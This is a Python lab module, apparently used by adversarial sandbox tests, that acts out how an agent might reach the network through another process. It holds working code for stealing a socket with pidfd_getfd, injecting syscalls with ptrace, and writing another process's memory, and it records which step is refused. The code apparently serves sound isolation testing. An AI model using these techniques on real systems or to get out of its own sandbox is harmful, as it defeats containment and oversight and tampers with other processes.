"""Borrowing another process to reach the network: what an agent tries in tests/adversarial/test_borrow.py.

`python -m lab.borrow victim HOST PORT`  an un-enrolled helper: connects to HOST:PORT itself once
    (the lab works), then holds an unconnected TCP socket and a buffer and sleeps; prints
    {"pid", "fd", "addr", "connected"} as one JSON line.
`python -m lab.borrow steal PID FD HOST PORT`  pidfd_getfd() the socket FD of PID, connect it.
`python -m lab.borrow inject PID HOST PORT`  ptrace-attach PID and make it run socket(),
    connect() and write() (x86-64 syscall injection).
`python -m lab.borrow own HOST PORT`  the same injection into a child of our own (the control).
`python -m lab.borrow memory PID ADDR`  write PID's memory through process_vm_writev and
    /proc/PID/mem.
Each prints one JSON line {"ok", "pid", ...}; a refusal names the step and its errno."""

from __future__ import annotations

import ctypes
import errno
import json
import os
import socket
import struct
import sys
import time

_libc = ctypes.CDLL(None, use_errno=True)
_libc.ptrace.restype = ctypes.c_long
_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
SYS_PIDFD_OPEN, SYS_PIDFD_GETFD, SYS_PROCESS_VM_WRITEV = 434, 438, 311
SYS_SOCKET, SYS_CONNECT, SYS_WRITE, SYS_CLOSE = 41, 42, 1, 3
PTRACE_PEEKDATA, PTRACE_POKEDATA, PTRACE_GETREGS, PTRACE_SETREGS = 2, 5, 12, 13
PTRACE_SINGLESTEP, PTRACE_ATTACH, PTRACE_DETACH = 9, 16, 17
MESSAGE = b"borrowed\n"


class Refused(Exception):
    def __init__(self, step: str, err: int):
        super().__init__(f"{step}: {os.strerror(err)}")
        self.step, self.err = step, err


class Regs(ctypes.Structure):  # struct user_regs_struct, x86-64
    _fields_ = [(n, ctypes.c_ulonglong) for n in (
        "r15 r14 r13 r12 rbp rbx r11 r10 r9 r8 rax rcx rdx rsi rdi orig_rax rip cs eflags rsp ss "
        "fs_base gs_base ds es fs gs").split()]


def _check(step: str, rc: int) -> int:
    if rc == -1:
        raise Refused(step, ctypes.get_errno())
    return rc


def _sockaddr_in(host: str, port: int) -> bytes:
    return struct.pack("<H", socket.AF_INET) + struct.pack("!H", port) + socket.inet_aton(host) + b"\0" * 8


def victim(host: str, port: int) -> int:
    connected = False
    try:
        with socket.create_connection((host, port), timeout=10) as s:
            s.sendall(b"victim\n")
            connected = s.recv(16) == b"victim\n"
    except OSError:
        pass
    held = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    buf = ctypes.create_string_buffer(b"untouched", 16)
    print(json.dumps({"pid": os.getpid(), "fd": held.fileno(), "addr": ctypes.addressof(buf),
                      "connected": connected}), flush=True)
    while True:
        time.sleep(1)


def steal(pid: int, fd: int, host: str, port: int) -> dict:
    pidfd = _check("pidfd_open", _libc.syscall(SYS_PIDFD_OPEN, pid, 0))
    got = _check("pidfd_getfd", _libc.syscall(SYS_PIDFD_GETFD, pidfd, fd, 0))
    s = socket.socket(fileno=got)
    s.settimeout(10)
    try:
        s.connect((host, port))
        s.sendall(MESSAGE)
        return {"echo": s.recv(64).decode(errors="replace")}
    except OSError as e:
        raise Refused("connect", e.errno or errno.EIO) from None


def _wait_stopped(pid: int) -> None:
    _, status = os.waitpid(pid, 0)
    if not os.WIFSTOPPED(status):
        raise Refused("waitpid", errno.ECHILD)


def _syscall(pid: int, base: Regs, at: int, nr: int, *args: int) -> int:
    """Run one system call in the stopped tracee at the `syscall` instruction at `at`."""
    r = Regs.from_buffer_copy(base)
    r.rax, r.orig_rax, r.rip = nr, (1 << 64) - 1, at
    for name, value in zip(("rdi", "rsi", "rdx", "r10", "r8", "r9"), args, strict=False):
        setattr(r, name, value)
    _check("PTRACE_SETREGS", _libc.ptrace(PTRACE_SETREGS, pid, None, ctypes.byref(r)))
    _check("PTRACE_SINGLESTEP", _libc.ptrace(PTRACE_SINGLESTEP, pid, None, None))
    _wait_stopped(pid)
    out = Regs()
    _check("PTRACE_GETREGS", _libc.ptrace(PTRACE_GETREGS, pid, None, ctypes.byref(out)))
    return ctypes.c_longlong(out.rax).value


def _poke(pid: int, addr: int, data: bytes) -> None:
    data += b"\0" * (-len(data) % 8)
    for i in range(0, len(data), 8):
        word = ctypes.c_ulonglong(struct.unpack("<Q", data[i:i + 8])[0])
        _check("PTRACE_POKEDATA", _libc.ptrace(PTRACE_POKEDATA, pid, ctypes.c_void_p(addr + i), ctypes.c_void_p(word.value)))


def inject(pid: int, host: str, port: int) -> dict:
    """Attach, make the tracee connect to host:port and write MESSAGE, put it back, detach."""
    _check("PTRACE_ATTACH", _libc.ptrace(PTRACE_ATTACH, pid, None, None))
    try:
        _wait_stopped(pid)
        saved = Regs()
        _check("PTRACE_GETREGS", _libc.ptrace(PTRACE_GETREGS, pid, None, ctypes.byref(saved)))
        ctypes.set_errno(0)
        word = _libc.ptrace(PTRACE_PEEKDATA, pid, ctypes.c_void_p(saved.rip - 2), None)
        if word & 0xFFFF != 0x050F:  # stopped right after a `syscall` instruction (it sleeps)
            raise Refused("find syscall instruction", errno.ENOEXEC)
        at = saved.rip - 2
        scratch = (saved.rsp - 1024) & ~0xF  # below the red zone
        _poke(pid, scratch, _sockaddr_in(host, port) + MESSAGE)
        fd = _syscall(pid, saved, at, SYS_SOCKET, socket.AF_INET, socket.SOCK_STREAM, 0)
        if fd < 0:
            raise Refused("injected socket", -fd)
        rc = _syscall(pid, saved, at, SYS_CONNECT, fd, scratch, 16)
        sent = _syscall(pid, saved, at, SYS_WRITE, fd, scratch + 16, len(MESSAGE)) if rc == 0 else rc
        time.sleep(0.2)  # let the echo come back before the socket goes
        _syscall(pid, saved, at, SYS_CLOSE, fd)
        _check("PTRACE_SETREGS", _libc.ptrace(PTRACE_SETREGS, pid, None, ctypes.byref(saved)))
        if rc != 0:
            raise Refused("injected connect", -rc)
        return {"sent": sent}
    finally:
        _libc.ptrace(PTRACE_DETACH, pid, None, None)


def own(host: str, port: int) -> dict:
    child = os.fork()
    if child == 0:
        time.sleep(60)
        os._exit(0)
    try:
        time.sleep(0.3)  # the child reaches its sleep
        return {"child": child, **inject(child, host, port)}
    finally:
        os.kill(child, 9)
        os.waitpid(child, 0)


def memory(pid: int, addr: int) -> dict:
    """Both ways of writing another process's memory, each tried; refused only if both are."""
    data = ctypes.create_string_buffer(b"borrowed", 8)

    class IoVec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

    local, remote = IoVec(ctypes.addressof(data), 8), IoVec(addr, 8)
    out = {}
    rc = _libc.syscall(SYS_PROCESS_VM_WRITEV, pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    out["process_vm_writev"] = 0 if rc == 8 else ctypes.get_errno()
    try:
        fd = os.open(f"/proc/{pid}/mem", os.O_RDWR)
        os.pwrite(fd, b"borrowed", addr)
        os.close(fd)
        out["proc_mem"] = 0
    except OSError as e:
        out["proc_mem"] = e.errno
    if all(out.values()):
        raise Refused(f"process_vm_writev ({out['process_vm_writev']}), /proc/PID/mem ({out['proc_mem']})",
                      out["process_vm_writev"])
    return out


def main(argv: list[str]) -> int:
    verb, args = argv[0], argv[1:]
    if verb == "victim":
        return victim(args[0], int(args[1]))
    try:
        if verb == "steal":
            out = steal(int(args[0]), int(args[1]), args[2], int(args[3]))
        elif verb == "inject":
            out = inject(int(args[0]), args[1], int(args[2]))
        elif verb == "own":
            out = own(args[0], int(args[1]))
        elif verb == "memory":
            out = memory(int(args[0]), int(args[1]))
        else:
            raise SystemExit(f"unknown verb {verb}")
        result = {"ok": True, **out}
    except Refused as e:
        result = {"ok": False, "step": e.step, "errno": e.err, "error": str(e)}
    print(json.dumps({"pid": os.getpid(), **result}), flush=True)
    return 0 if result["ok"] else 1


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
